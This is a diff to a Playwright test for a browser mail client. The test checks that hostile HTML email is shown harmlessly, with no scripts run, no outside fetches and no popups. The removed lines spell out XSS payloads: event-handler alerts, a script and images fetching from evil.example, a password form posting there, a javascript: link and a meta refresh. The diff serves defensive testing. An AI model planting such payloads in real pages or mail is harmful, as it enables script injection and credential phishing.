@@ -1,6 +1,7 @@
 import { gzipSync } from "node:zlib";
 import AxeBuilder from "@axe-core/playwright";
 import type { Page } from "@playwright/test";
+import { hostileHtml } from "@tests/support/hostile-mail";
 import { expect, test } from "@tests/support/office-in-browser";
 
 const MAX_SCRIPT_BYTES = 180 * 1024;
@@ -78,23 +79,35 @@ test("hostile HTML shows harmless: nothing runs, nothing is fetched, nothing can
     outside.push(`dialog ${dialog.message()}`);
     void dialog.dismiss();
   });
+  page.on("popup", (popup) => outside.push(`popup ${popup.url()}`));
   const subject = "A present for you";
   await signIn("Ines Varga");
-  await running.send({
-    from: "Prize Office <winner@luckypost.example>",
-    subject,
-    headers: { "Content-Type": "text/html" },
-    body: `<body onload="alert(1)"><script>alert(2);fetch("https://evil.example/a")</script><img src="https://evil.example/b.gif" onerror="alert(3)">
-      <svg onload="alert(4)"></svg><form action="https://evil.example"><input name="pass"><button>Open</button></form>
-      <iframe src="https://evil.example/c"></iframe><a href="javascript:alert(5)">Here</a><style>@import url(https://evil.example/d)</style>
-      <p style="background:url(https://evil.example/e)">You have won.</p><meta http-equiv="refresh" content="0;url=https://evil.example/f">`,
-  });
+  const first = await running.send({ from: "Prize Office <winner@luckypost.example>", subject });
+  const bodies = hostileHtml();
+  for (const [at, { body }] of bodies.entries()) {
+    await running.send({
+      from: "Prize Office <winner@luckypost.example>",
+      subject,
+      inReplyTo: first,
+      headers: { "Content-Type": "text/html; charset=utf-8" },
+      body: `<p>Part ${at}.</p>${body}<p>You have won.</p>`,
+    });
+  }
   await page.getByRole("link", { name: subject }).click();
-  await page.getByRole("button", { name: "Show as it was sent" }).click();
-  const frame = page.frameLocator("iframe");
-  await expect(frame.getByText("You have won.")).toBeVisible();
-  await expect(frame.locator("script, form, input, iframe, svg, img")).toHaveCount(0);
-  await frame.getByText("Here").click();
+  await page.getByRole("button", { name: /earlier items folded/ }).click();
+  const shown = page.getByRole("article").getByRole("button", { name: "Show as it was sent" });
+  await expect(shown).toHaveCount(bodies.length);
+  for (let left = bodies.length; left > 0; left -= 1) await shown.first().click();
+  const frames = page.locator("iframe");
+  await expect(frames).toHaveCount(bodies.length);
+  for (let at = 0; at < bodies.length; at += 1) {
+    const frame = frames.nth(at).contentFrame();
+    await expect(frame.getByText(`Part ${at}.`)).toBeVisible();
+    await expect(frame.locator("script, form, input, iframe, svg, link, meta[http-equiv], object, video")).toHaveCount(
+      0,
+    );
+    for (const link of await frame.getByText("Click", { exact: true }).all()) await link.click();
+  }
   await expect(page.getByRole("heading", { name: subject })).toBeVisible();
   expect(outside).toEqual([]);
 });
